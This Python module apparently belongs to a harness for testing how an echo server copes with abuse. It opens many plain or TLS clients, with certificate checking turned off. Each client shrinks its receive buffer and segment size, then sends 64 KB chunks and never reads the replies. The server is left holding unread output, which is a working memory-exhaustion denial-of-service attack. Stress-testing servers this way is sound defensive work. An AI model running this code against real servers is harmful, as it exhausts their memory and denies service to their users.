"""Clients of an echo that send what they can and never read, plain or over TLS. An event is a chunk that was
taken.

Small segments and a small receive buffer make the server's kernel take little of the reply, so that the
server has to hold it. In each round every client that still can sends a chunk, so many are ready in one
turn.
"""

from __future__ import annotations

import socket
import ssl
import time
from collections.abc import Iterator

from .attacker import Target, trusting_all

CHUNK = bytes(65536)
ROUNDS_WITHOUT_PROGRESS = 20


def attack(target: Target, clients: int, tls: bool = False) -> Iterator[tuple[int, int]]:
    """Send until no client can send any more, or all were cut."""
    small = {"receive_buffer": 4096, "segment": 1000}
    context = trusting_all()
    socks: list[socket.socket] = [
        target.connect_tls(context, **small) if tls else target.connect(**small) for _ in range(clients)
    ]
    target.held.extend(socks)
    for sock in socks:
        sock.setblocking(False)
    yield 0, 0
    without = 0
    while socks and without < ROUNDS_WITHOUT_PROGRESS:
        progress = 0
        for sock in tuple(socks):
            try:
                progress += sock.send(CHUNK)
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                pass
            except OSError:
                socks.remove(sock)
            if progress >= len(CHUNK):
                yield 1, progress
                progress = 0
        without = 0 if progress else without + 1
        time.sleep(0.01)
